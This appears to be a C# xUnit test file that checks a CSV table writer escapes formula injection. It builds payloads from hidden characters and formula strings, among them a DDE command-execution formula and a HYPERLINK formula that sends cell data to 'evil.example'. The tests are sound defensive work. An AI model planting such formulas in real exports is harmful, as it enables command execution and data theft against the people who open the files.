using System.Text;
using VoucherFunctions.Issuers;
using Xunit;

namespace VoucherFunctions.Tests.Issuers;

/// <summary>The table by itself: it relies on nobody having kept bad texts away.</summary>
public sealed class CsvTableTests
{
    private static readonly char[] Separators = [',', ';'];

    private static readonly string[] Hidden =
        ["", "\t", "\r", "\n", "\r\n", "\0", "\u001B", " ", "\u00A0", "\u2003", "\u3000", "\u200B", "\u2060", "\uFEFF", "\u202E", "\u00AD", " \u200B\t", "\"", "\" ", "'", ",", ";", "a;", "a,", "a\t", "a|", "a\r\n", "a;\u200B"];

    private static readonly string[] Formulas =
        ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "|calc", "%0A", "＝1+1", "＋1", "－1", "＠SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=\"a\";=\"b\""];

    public static TheoryData<string> Payloads => [.. from hidden in Hidden from formula in Formulas select hidden + formula];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void No_spreadsheet_finds_a_formula_wherever_it_cuts(string text) => Assert.All(Separators, separator => Assert.Empty(Spreadsheet.FormulasIn(Write(separator, "first", text, "last"))));

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Nothing_but_apostrophes_is_added(string text) =>
        Assert.All(Separators, separator => Assert.Equal(["first", Bare(text), "last"], Csv.Parse(Write(separator, "first", text, "last"), separator).Single().Select(Bare)));

    [Theory]
    [InlineData("\tGenève")]
    [InlineData("\rGenève")]
    public void A_control_character_at_the_start_does_not_stay_there(string text) => Assert.Equal($"'{text}", Csv.Parse(Write(',', text)).Single().Single());

    [Fact]
    public void A_very_long_text_is_one_cell()
    {
        var text = string.Concat(Enumerable.Repeat("Zürich, \"Stauffacher\"; ", 10_000));

        Assert.Equal(text, Csv.Parse(Write(',', text)).Single().Single());
    }

    private static string Write(char separator, params string[] values) => Encoding.UTF8.GetString(new CsvTable(new CsvForm(WithByteOrderMark: false, separator), values).ToBytes());

    private static string Bare(string text) => text.Replace("'", "", StringComparison.Ordinal);
}
